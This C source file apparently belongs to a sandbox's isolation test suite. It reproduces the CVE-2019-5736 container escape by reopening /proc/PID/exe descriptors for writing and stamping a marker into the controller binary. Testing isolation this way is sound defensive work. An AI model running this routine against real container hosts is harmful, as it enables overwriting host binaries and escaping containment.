/* attack-exe — try to overwrite the controller's binary (CVE-2019-5736).
 *
 * usage: attack-exe WARD_PATH [path-only]
 * runc's bug: a container process opened /proc/PID/exe of the runtime
 * (a host binary), waited for it to exit and reopened it for writing.
 * The box's pid 1 is a fork of the controller, so /proc/1/exe names the
 * host's ward binary. The attack opens every /proc/PID/exe it can
 * (including its own), tries to open them for writing directly and by
 * reopening an O_PATH descriptor through /proc/self/fd for two seconds,
 * and tries WARD_PATH itself. A successful open writes a marker at offset
 * 0. With `path-only` (the driver's run outside the box) only WARD_PATH
 * is tried. The driver compares the hashes of the ward binary and of this
 * attack's binary before and after. */
#include <time.h>

#include "attack.h"

static int paths[64];
static char names[64][64];
static int npaths;

static void try_write(const char *what, const char *path, int flags)
{
	char w[256];
	snprintf(w, sizeof(w), "open(%s, %s)", what, flags & O_TRUNC ? "O_WRONLY|O_TRUNC" : "O_RDWR");
	int fd = (int)deny(w, open(path, flags | O_CLOEXEC));
	if (fd >= 0) {
		show("pwrite(marker at 0)", pwrite(fd, "WARDPWN", 7, 0));
		close(fd);
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: attack-exe WARD_PATH [path-only]\n");
		return 2;
	}
	try_write("ward binary path", argv[1], O_RDWR);
	/* The driver's calibration outside the box must not touch other
	 * processes' binaries. */
	if (argc == 3)
		return attack_exit();
	try_write("/proc/self/exe", "/proc/self/exe", O_RDWR);
	try_write("/proc/self/exe", "/proc/self/exe", O_WRONLY | O_TRUNC);

	DIR *d = opendir("/proc");
	struct dirent *de;
	while (d && (de = readdir(d)) && npaths < 64) {
		if (de->d_name[0] < '1' || de->d_name[0] > '9')
			continue;
		char p[300], target[512];
		snprintf(p, sizeof(p), "/proc/%s/exe", de->d_name);
		ssize_t n = readlink(p, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = 0;
		say("%s -> %s", p, n > 0 ? target : errno_name(errno));
		try_write(p, p, O_RDWR);
		int fd = open(p, O_PATH | O_CLOEXEC);
		if (show("open(O_PATH)", fd) >= 0) {
			paths[npaths] = fd;
			snprintf(names[npaths], sizeof(names[0]), "%s", p);
			npaths++;
		}
	}
	if (d)
		closedir(d);
	/* map_files names the mapped files, the binary among them. */
	list_dir("/proc/1/map_files");

	/* Keep trying to reopen the O_PATH descriptors for writing: the
	 * binary is busy (ETXTBSY) while it runs, so runc's exploit waited. */
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	int tries = 0;
	do {
		for (int i = 0; i < npaths; i++) {
			char p[64];
			snprintf(p, sizeof(p), "/proc/self/fd/%d", paths[i]);
			int fd = open(p, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 || (errno != ETXTBSY && tries == 0)) {
				char w[200];
				snprintf(w, sizeof(w), "reopen %s via %s for writing", names[i], p);
				deny(w, fd);
			}
			if (fd >= 0) {
				show("pwrite(marker at 0)", pwrite(fd, "WARDPWN", 7, 0));
				close(fd);
			}
		}
		tries++;
		usleep(20000);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - start.tv_sec < 2);
	say("%d rounds of reopening", tries);
	return attack_exit();
}
